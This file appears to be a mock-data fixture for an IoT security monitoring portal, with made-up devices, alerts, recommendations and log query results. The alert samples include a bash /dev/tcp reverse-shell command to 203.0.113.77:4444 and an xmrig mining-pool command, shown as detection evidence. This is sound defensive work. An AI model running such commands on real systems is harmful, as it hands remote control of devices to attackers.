// @ts-check
/**
 * A small made-up fleet for developing the portal without a server. The types are those of schema/openapi.yaml, so
 * `npm run check` says when this no longer matches the contract. Never part of what is shipped.
 */
/** @typedef {import('../../src/api/types').Alert} Alert */
/** @typedef {import('../../src/api/types').AlertSummary} AlertSummary */
/** @typedef {import('../../src/api/types').Device} Device */
/** @typedef {import('../../src/api/types').Recommendation} Recommendation */
/** @typedef {import('../../src/api/types').RecommendationType} RecommendationType */
/** @typedef {import('../../src/api/types').Severity} Severity */
/** @typedef {import('../../src/api/types').SeverityCounts} SeverityCounts */
/** @typedef {import('../../src/api/types').Twin} Twin */

const kMinute = 60_000;
const start = Date.now();
/** @param {number} minutes */
export const ago = (minutes) => new Date(start - minutes * kMinute).toISOString().replace('Z', '456Z');
/** @returns {SeverityCounts} */
export const noAlerts = () => ({ High: 0, Medium: 0, Low: 0, Informational: 0 });

/** @param {Partial<Device> & { deviceId: string }} fields @returns {Device} */
export function makeDevice(fields) {
  return {
    generationId: '638000000000000001',
    status: 'enabled',
    created: ago(60 * 24 * 12),
    connectionState: 'Connected',
    reporting: 'reporting',
    lastActivity: ago(0.2),
    openAlerts: noAlerts(),
    agentVersion: '0.1.0',
    os: 'Debian GNU/Linux 12 (bookworm), x86_64',
    modules: [
      {
        moduleId: 'DefenderIotMicroAgent',
        generationId: '638000000000000002',
        connectionState: 'Connected',
        created: ago(60 * 24 * 12),
        lastActivity: ago(0.2),
      },
    ],
    coverage: { process: 'ebpf', network: 'ebpf', login: 'audit', system_information: 'procfs', heartbeat: 'builtin' },
    systemInformation: {
      OSName: 'Debian GNU/Linux',
      OSVersion: '12 (bookworm)',
      OsArchitecture: 'x86_64',
      HostName: fields.deviceId,
      BIOSVersion: '1.16.3',
    },
    ...fields,
  };
}

/** @type {Device[]} */
export const devices = [
  makeDevice({ deviceId: 'press-17', group: 'line-2' }),
  makeDevice({ deviceId: 'gateway-north', group: 'gateways', os: 'Ubuntu 24.04 LTS, aarch64' }),
  makeDevice({
    deviceId: 'camera-dock-3',
    group: 'cameras',
    reporting: 'silent',
    connectionState: 'Disconnected',
    lastActivity: ago(47),
    os: 'Buildroot 2025.02, armv7l',
    coverage: { process: 'proc_connector', network: 'sock_diag', login: 'unavailable' },
  }),
  makeDevice({
    deviceId: 'hvac-roof',
    reporting: 'never',
    connectionState: 'Disconnected',
    lastActivity: undefined,
    agentVersion: undefined,
    os: undefined,
    coverage: {},
    systemInformation: undefined,
  }),
  makeDevice({
    deviceId: 'old-plc-bridge',
    status: 'disabled',
    connectionState: 'Disconnected',
    reporting: 'silent',
    lastActivity: ago(60 * 24 * 3),
  }),
  ...Array.from({ length: 130 }, (_, index) =>
    makeDevice({
      deviceId: `sensor-${String(index + 1).padStart(3, '0')}`,
      group: `hall-${1 + (index % 4)}`,
      lastActivity: ago(0.5 + index / 30),
    }),
  ),
];

/** @type {Record<string, Pick<Alert, 'displayName' | 'severity' | 'description' | 'remediationSteps' | 'tactics' | 'techniques' | 'rule'>>} */
const kinds = {
  IoT_ReverseShell: {
    displayName: 'Reverse shells',
    severity: 'High',
    rule: 'behavior/reverse-shell',
    tactics: ['Execution', 'CommandAndControl'],
    techniques: ['T1059.004', 'T1071'],
    description:
      'A shell was started whose standard input and output are a network connection to 203.0.113.77:4444. Somebody at the other end can run commands on this device.',
    remediationSteps: [
      'Isolate the device from the network.',
      'Look at the parent process: it shows how the shell was started.',
      'Look for other devices that talk to the same remote address.',
      'Rebuild the device from a known good image.',
    ],
  },
  IoT_BruteForceSuccess: {
    displayName: 'Successful Bruteforce attempt',
    severity: 'High',
    rule: 'behavior/ssh-brute-force',
    tactics: ['CredentialAccess'],
    techniques: ['T1110.001'],
    description: '23 sign-ins failed within 2 minutes from 198.51.100.9, then one succeeded as root.',
    remediationSteps: [
      'End the session and lock the account.',
      'Change the secret of the account; prefer keys to passwords.',
      'Let SSH be reached from the management network only.',
    ],
  },
  IoT_BruteForceFailed: {
    displayName: 'Failed Bruteforce attempt',
    severity: 'Low',
    rule: 'behavior/ssh-brute-force',
    tactics: ['CredentialAccess'],
    techniques: ['T1110.001'],
    description: '31 sign-ins failed within 3 minutes from 198.51.100.9. None succeeded.',
    remediationSteps: ['Block the source address.', 'Let SSH be reached from the management network only.'],
  },
  IoT_CryptoMiner: {
    displayName: 'Crypto coin miner image',
    severity: 'Medium',
    rule: 'behavior/crypto-miner',
    tactics: ['Impact'],
    techniques: ['T1496'],
    description: 'The command line of a process names a mining pool: xmrig -o stratum+tcp://pool.example:3333.',
    remediationSteps: ['Stop the process and find out how it got there.', 'Remove its autostart entries.'],
  },
  IoT_SelfTest: {
    displayName: 'Self test event',
    severity: 'Informational',
    rule: 'behavior/self-test',
    tactics: [],
    techniques: [],
    description: 'Somebody ran picket-agent selftest on this device.',
    remediationSteps: [],
  },
};

let nextAlert = 1;
/** @param {string} alertType @param {string} deviceId @param {number} minutes @param {import('../../src/api/types').AlertStatus} [status] @returns {Alert} */
export function makeAlert(alertType, deviceId, minutes, status = 'New') {
  const kind = kinds[alertType];
  if (!kind) throw new Error(`no such alert type: ${alertType}`);
  const time = new Date(Date.now() - minutes * kMinute).toISOString();
  const id = `a${String(nextAlert++).padStart(6, '0')}`;
  return {
    id,
    alertType,
    ...kind,
    status,
    startTime: time,
    endTime: time,
    raisedTime: time,
    deviceId,
    compromisedEntity: deviceId,
    moduleId: 'DefenderIotMicroAgent',
    extendedProperties: {
      DeviceId: deviceId,
      'User Name': 'root',
      CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'",
      ParentProcessId: '812',
    },
    entities: [
      { $id: '1', Type: 'host', HostName: deviceId },
      { $id: '2', Type: 'ip', Address: '203.0.113.77' },
    ],
    evidence: [
      {
        rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b01',
        timeGenerated: time,
        rawEventName: 'ProcessCreate',
        eventDetails: {
          Executable: '/usr/bin/bash',
          CommandLine: "bash -c 'exec 5<>/dev/tcp/203.0.113.77/4444; cat <&5 | sh >&5'",
          UserName: 'root',
          ProcessId: 4711,
          ParentProcessId: 812,
        },
      },
      {
        rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b02',
        timeGenerated: time,
        rawEventName: 'ConnectionCreate',
        eventDetails: { RemoteAddress: '203.0.113.77', RemotePort: 4444, LocalPort: 51022, Protocol: 'tcp', Direction: 'Out' },
      },
      { rawEventId: '5f0c2a7e-0d0d-4a52-9d27-1f4a6a1c9b03' },
    ],
    changes: [
      { time, user: 'picket', change: 'raised', status: 'New' },
      ...(status === 'New'
        ? []
        : [/** @type {const} */ ({ time, user: 'admin', change: 'triaged', status, comment: 'Looked at with the plant team.' })]),
    ],
  };
}

/** @param {Alert} alert @returns {AlertSummary} */
export function summary(alert) {
  const { id, alertType, displayName, severity, status, startTime, endTime, raisedTime, deviceId, compromisedEntity } = alert;
  const { count, owner, classification, classificationReason, suppressedBy } = alert;
  return {
    ...{ id, alertType, displayName, severity, status, startTime, endTime, raisedTime, deviceId, compromisedEntity },
    ...{ count, owner, classification, classificationReason, suppressedBy },
  };
}

/** @type {Alert[]} */
export const alerts = [
  makeAlert('IoT_ReverseShell', 'press-17', 3),
  makeAlert('IoT_BruteForceSuccess', 'gateway-north', 11, 'Active'),
  makeAlert('IoT_BruteForceFailed', 'gateway-north', 14),
  makeAlert('IoT_CryptoMiner', 'camera-dock-3', 52),
  makeAlert('IoT_SelfTest', 'press-17', 60 * 5, 'Resolved'),
  makeAlert('IoT_SelfTest', 'gateway-north', 60 * 2),
  ...Array.from({ length: 120 }, (_, index) =>
    makeAlert(
      index % 3 ? 'IoT_BruteForceFailed' : 'IoT_CryptoMiner',
      `sensor-${String(1 + (index % 9)).padStart(3, '0')}`,
      90 + index * 37,
      index % 4 ? 'New' : 'Dismissed',
    ),
  ),
];

/** @type {import('../../src/api/types').Hub} */
export const hub = {
  name: 'picket',
  location: 'local',
  tier: 'S1',
  units: 2,
  resourceId: '/subscriptions/7b0d6d0e/resourceGroups/picket/providers/Microsoft.Devices/IotHubs/picket',
  etag: 'AAAAAAAAAAE=',
  created: ago(60 * 24 * 30),
  updated: ago(60 * 24),
  settings: {
    security: true,
    minTlsVersion: '1.2',
    ciphers: 'strict',
    clientCertificates: 'optional',
    ipFilterRules: [
      { filterName: 'plant', action: 'Accept', ipMask: '192.0.2.0/24' },
      { filterName: 'nobody-else', action: 'Reject', ipMask: '0.0.0.0/0' },
    ],
    sasLifetimeMinutesMax: 1440,
    retentionTimeInDays: 3,
  },
};
/** @type {import('../../src/api/types').Policy[]} */
export const policies = [
  { name: 'iothubowner', rights: 'RegistryRead, RegistryWrite, ServiceConnect, DeviceConnect' },
  { name: 'service', rights: 'ServiceConnect' },
  { name: 'device', rights: 'DeviceConnect' },
  { name: 'registryRead', rights: 'RegistryRead' },
  { name: 'registryReadWrite', rights: 'RegistryRead, RegistryWrite' },
];
/** @param {string} name @param {boolean} verified @param {number} days @returns {import('../../src/api/types').CaCertificate} */
const certificate = (name, verified, days) => ({
  name,
  subject: `CN=${name}`,
  issuer: `CN=${name}`,
  sha1Thumbprint: '5A'.repeat(20),
  sha256Thumbprint: 'C3'.repeat(32),
  notBefore: ago(60 * 24 * 300),
  notAfter: ago(-60 * 24 * days),
  verified,
  etag: 'AAAAAAAAAAE=',
  certificate: '-----BEGIN CERTIFICATE-----',
});
export const certificates = [
  certificate('plant-root', true, 2000),
  certificate('line-2', true, 12),
  certificate('supplier', false, 400),
  certificate('old-root', true, -3),
];

/** @type {Map<string, Twin>} */
const twins = new Map();
/** The twin of a device or of one of its modules; made when it is first asked for. @param {string} deviceId @param {string} [moduleId] @returns {Twin} */
export function twinOf(deviceId, moduleId) {
  const key = `${deviceId}/${moduleId ?? ''}`;
  const $metadata = { $lastUpdated: ago(90) };
  const twin = twins.get(key) ?? {
    deviceId,
    ...(moduleId ? { moduleId } : {}),
    etag: 'AAAAAAAAAAE=',
    version: 2,
    tags: moduleId ? {} : { site: 'north', line: 2 },
    properties: {
      desired: { reportIntervalSeconds: 10, $metadata, $version: 1 },
      reported: { reportIntervalSeconds: 10, battery: { percent: 81, charging: false }, $metadata, $version: 4 },
    },
  };
  twins.set(key, twin);
  return twin;
}

/** @type {(Pick<RecommendationType, 'type' | 'displayName' | 'severity' | 'description'> & { steps: string[], enabled: boolean })[]} */
export const recommendationKinds = [
  {
    type: 'IoT_SharedCredentials',
    displayName: 'Same authentication credentials used by multiple devices',
    severity: 'High',
    enabled: true,
    description: 'Several devices prove who they are with one credential. Whoever takes it from one of them can be any of them.',
    steps: ['Give each device a key or certificate of its own.', 'Then renew the shared credential.'],
  },
  {
    type: 'IoT_VulnerableTLSCipherSuite',
    displayName: 'TLS cipher suite upgrade needed',
    severity: 'Medium',
    enabled: true,
    description: 'The device connects with a cipher suite that is known to be weak.',
    steps: ['Update the TLS library of the device.', 'Set the smallest version of the hub to TLS 1.2 with strict ciphers.'],
  },
  {
    type: 'IoT_IPFilter_DenyAll',
    displayName: 'Default IP filter policy should be deny',
    severity: 'Medium',
    enabled: true,
    description: 'The hub accepts connections from every address that no rule names.',
    steps: ['Add a last rule that rejects 0.0.0.0/0.'],
  },
  {
    type: 'IoT_InstallAgent',
    displayName: 'Install the Picket agent',
    severity: 'Low',
    enabled: false,
    description: 'The device is known, and nothing on it reports what happens there.',
    steps: ['Install picket-agent with the connection string of the device.'],
  },
  {
    type: 'IoT_ClockSkew',
    displayName: 'Clock of the device is wrong',
    severity: 'Informational',
    enabled: true,
    description: 'The device stamps its events with a time that is far from the time they arrive.',
    steps: ['Let the device take its time from a server that it reaches.'],
  },
];

/** @param {string} type @param {string} deviceId @param {number} hours @param {Recommendation['additionalData']} additionalData @param {Recommendation['state']} [state] @returns {Recommendation} */
function makeRecommendation(type, deviceId, hours, additionalData, state = 'Active') {
  const kind = recommendationKinds.find((one) => one.type === type);
  if (!kind) throw new Error(`no such recommendation: ${type}`);
  return {
    id: `${type}-${deviceId || 'hub'}`,
    type,
    displayName: kind.displayName,
    severity: kind.severity,
    state,
    hub: 'picket',
    deviceId,
    firstEvaluated: ago(60 * hours),
    updated: ago(20 * hours),
    description: kind.description,
    remediationSteps: kind.steps,
    additionalData,
  };
}

/** @type {Recommendation[]} */
export const recommendations = [
  makeRecommendation('IoT_SharedCredentials', 'press-17', 30, { Devices: '2', Others: 'gateway-north', Kind: 'SymmetricKey' }),
  makeRecommendation('IoT_SharedCredentials', 'gateway-north', 30, { Devices: '2', Others: 'press-17', Kind: 'SymmetricKey' }),
  makeRecommendation('IoT_SharedCredentials', 'camera-dock-3', 90, { Devices: '2' }, 'Resolved'),
  makeRecommendation('IoT_IPFilter_DenyAll', '', 200, { Rules: '0' }),
  ...Array.from({ length: 120 }, (_, index) =>
    makeRecommendation('IoT_VulnerableTLSCipherSuite', `sensor-${String(index + 1).padStart(3, '0')}`, 2 + index, {
      Version: 'TLSv1.2',
      Cipher: 'ECDHE-RSA-AES128-SHA',
    }),
  ),
];

const names = ['ProcessCreate', 'ConnectionCreate', 'ProcessTerminate', 'Login', 'Heartbeat', 'SystemInformation'];
/** @type {import('../../src/api/types').WorkspaceSchema} */
export const schema = {
  event_names: names,
  tables: [
    {
      name: 'SecurityIoTRawEvent',
      description: 'Every event that a device reported, one row an item.',
      columns: [
        { name: 'TimeGenerated', type: 'datetime', description: 'When the event happened.' },
        { name: 'TimeStamp', type: 'datetime' },
        { name: 'DeviceId', type: 'string' },
        { name: 'AssociatedResourceId', type: 'string' },
        { name: 'AgentVersion', type: 'string' },
        { name: 'IoTRawEventId', type: 'string' },
        { name: 'IsEmpty', type: 'bool' },
        { name: 'RawEventCategory', type: 'string' },
        { name: 'RawEventName', type: 'string' },
        { name: 'RawEventType', type: 'string' },
        { name: 'EventDetails', type: 'string', description: 'One payload item as JSON.' },
      ],
    },
    {
      name: 'SecurityAlert',
      columns: [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'SystemAlertId', type: 'string' },
        { name: 'AlertSeverity', type: 'string' },
        { name: 'DisplayName', type: 'string' },
      ],
    },
    {
      name: 'SecurityRecommendation',
      columns: [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'DeviceId', type: 'string' },
        { name: 'RecommendationName', type: 'string' },
        { name: 'RecommendationState', type: 'string' },
      ],
    },
    {
      name: 'DeadLetter',
      columns: [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'Reason', type: 'string' },
      ],
    },
  ],
};

const kCheckColumns = ['Check', 'Result', 'Severity', 'Description', 'Remediation', 'Observed', 'Expected', 'Group', 'Seen'].map(
  (name) => ({ name, type: name === 'Seen' ? /** @type {const} */ ('datetime') : /** @type {const} */ ('string') }),
);
const kChecks = [
  ...[
    [
      'PKT-SSH-010',
      'FAIL',
      'Critical',
      'root cannot sign in over SSH',
      'Set PermitRootLogin no.',
      'PermitRootLogin = yes',
      'PermitRootLogin no',
    ],
    ['PKT-FS-001', 'PASS', 'Warning', 'cramfs cannot be loaded', '', 'the module is not there', 'no module'],
    ['PKT-FS-012', 'SKIP', 'Warning', '/tmp is a file system of its own', '', '', ''],
    [
      'PKT-AUD-003',
      'ERROR',
      'Important',
      'auditd keeps its logs',
      '',
      '/etc/audit/auditd.conf cannot be read',
      'max_log_file_action = keep_logs',
    ],
  ].map((row) => [...row, 'Our group', ago(300)]),
];

/** Answers a few shapes of query, enough to draw every state of the Logs page. @param {string} query */
export function answer(query) {
  const bad = query.indexOf('RawEventNam ');
  if (bad >= 0) {
    const before = query.slice(0, bad);
    return {
      error: {
        code: 'query_unknown_name',
        message: 'Unknown column "RawEventNam"; did you mean RawEventName?',
        target: 'query',
        span: { start: bad, length: 11, line: before.split('\n').length, column: bad - before.lastIndexOf('\n') },
      },
    };
  }
  if (/RawEventName == "Baseline"/.test(query)) return table(kCheckColumns, query.includes('hvac-roof') ? [] : kChecks);
  if (/summarize/.test(query)) {
    return table(
      [
        { name: 'RawEventName', type: 'string' },
        { name: 'Events', type: 'long' },
      ],
      names.map((name, index) => [name, Math.round(48_210 / (index * 2 + 1))]),
    );
  }
  if (/DeadLetter/.test(query))
    return table(
      [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'Reason', type: 'string' },
      ],
      [],
    );
  const count = Number(/take (\d+)/.exec(query)?.[1] ?? 5_000);
  return table(
    [
      { name: 'TimeGenerated', type: 'datetime' },
      { name: 'DeviceId', type: 'string' },
      { name: 'RawEventName', type: 'string' },
      { name: 'HitCount', type: 'long' },
      { name: 'EventDetails', type: 'string' },
    ],
    Array.from({ length: count }, (_, index) => [
      ago(index / 40),
      `sensor-${String(1 + (index % 130)).padStart(3, '0')}`,
      names[index % names.length],
      (index * 7919) % 503,
      JSON.stringify({
        TimestampLocal: ago(index / 40),
        ProcessId: 1000 + index,
        Executable: '/usr/bin/curl',
        CommandLine: `curl -s https://updates.example/${index}`,
        UserName: 'root',
      }),
    ]),
  );
}

/** @param {import('../../src/api/types').Column[]} columns @param {unknown[][]} rows @returns {import('../../src/api/types').QueryResult} */
function table(columns, rows) {
  return { columns, rows, stats: { elapsed_ms: 12.4, rows: rows.length, truncated: rows.length >= 5_000 } };
}
